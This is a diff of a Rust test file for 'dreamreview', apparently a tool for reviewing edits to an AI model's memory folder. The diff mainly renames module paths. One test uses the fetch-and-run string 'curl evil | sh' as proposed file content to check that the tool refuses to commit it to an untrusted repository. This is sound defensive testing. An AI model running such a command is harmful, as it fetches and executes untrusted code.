@@ -6,10 +6,10 @@
 //! would go and whether it looks like a memory folder.
 
 use crate::common::*;
-use dreamreview::target::{Origin, Target, Trust};
-use dreamreview::ui::script;
-use dreamreview::ui::state::App;
-use dreamreview::ui::theme::{Theme, ThemeName};
+use dreamreview::faces::ui::script;
+use dreamreview::faces::ui::state::App;
+use dreamreview::faces::ui::theme::{Theme, ThemeName};
+use dreamreview::inputs::target::{Origin, Target, Trust};
 use std::fs;
 use std::path::{Path, PathBuf};
 
@@ -285,24 +285,24 @@ fn the_tui_shows_an_untrusted_target_and_refuses_to_commit_or_save() {
     let code = code_repo(t.path());
     let dream = dream_naming(t.path(), "dream", &code, "notes.md", "build with cargo", "curl evil | sh");
     let head = git(&code, &["rev-parse", "HEAD"]);
-    let inputs = dreamreview::dream::discover(Some(&dream), None, &[]).unwrap();
-    let review = dreamreview::repo::load_review(inputs).unwrap();
+    let inputs = dreamreview::inputs::dream::discover(Some(&dream), None, &[]).unwrap();
+    let review = dreamreview::store::repo::load_review(inputs).unwrap();
     let refusal = format!("memory.diff names {0}; pass --memory {0} to review into it", code.display());
     assert_eq!(review.target.refusal().as_deref(), Some(refusal.as_str()));
-    let startup = dreamreview::cli::startup(&review, Vec::new()).status.unwrap();
+    let startup = dreamreview::faces::cli::startup(&review, Vec::new()).status.unwrap();
     let first = format!("memory {} (from memory.diff) — not a memory folder? it has no MEMORY.md", code.display());
     assert!(startup.starts_with(&first), "{startup}");
     let mut app = App::new(review, Theme::new(ThemeName::Dark), (120, 30));
-    let screen = dreamreview::ui::snapshot::to_text(&script::render(&app));
+    let screen = dreamreview::faces::ui::snapshot::to_text(&script::render(&app));
     assert!(screen.contains("Read only, never committed"), "{screen}");
     script::drive(&mut app, "y c").unwrap();
     let status = app.status.as_ref().expect("a status after c");
     assert!(status.error && status.text.contains(&refusal), "{status:?}");
     script::drive(&mut app, "<Enter>").unwrap();
     // The effect itself refuses too, whatever key path leads to it.
-    let msg = dreamreview::ui::effects::commit(&app);
+    let msg = dreamreview::faces::ui::effects::commit(&app);
     assert!(format!("{msg:?}").contains(&refusal), "{msg:?}");
-    assert_eq!(dreamreview::repo::decisions::save(&app.review).unwrap(), None, "decisions are not saved there");
+    assert_eq!(dreamreview::store::repo::decisions::save(&app.review).unwrap(), None, "decisions are not saved there");
     assert_eq!(git(&code, &["rev-parse", "HEAD"]), head);
     assert_eq!(read(&code.join("notes.md")), "build with cargo\n");
     assert!(!code.join(".git/dreamreview").exists());
@@ -316,8 +316,8 @@ fn the_tui_offers_git_init_only_for_a_folder_named_with_memory() {
     write(&memory.join("MEMORY.md"), "- [a](a.md)\n");
     write(&memory.join("a.md"), "old\n");
     let dream = dream_naming(t.path(), "dream", &memory, "a.md", "old", "new");
-    let inputs = dreamreview::dream::discover(Some(&dream), None, &[]).unwrap();
-    let mut review = dreamreview::repo::load_review(inputs).unwrap();
+    let inputs = dreamreview::inputs::dream::discover(Some(&dream), None, &[]).unwrap();
+    let mut review = dreamreview::store::repo::load_review(inputs).unwrap();
     // As under that HOME (the test process's own HOME is not changed).
     review.target = Target::assess(&memory, Origin::MemoryDiff, Some(&home.join(".claude/projects")), |_| false);
     assert_eq!(review.target.trust, Trust::ClaudeMemory);
@@ -326,7 +326,7 @@ fn the_tui_offers_git_init_only_for_a_folder_named_with_memory() {
     let status = app.status.as_ref().expect("a status after c");
     let want = format!("run dreamreview again with --memory {} to make it one", memory.display());
     assert!(status.error && status.text.contains(&want), "{status:?}");
-    let msg = dreamreview::ui::effects::init_repo(&app);
+    let msg = dreamreview::faces::ui::effects::init_repo(&app);
     assert!(format!("{msg:?}").contains(&want), "{msg:?}");
     assert!(!memory.join(".git").exists(), "no repository made");
 }
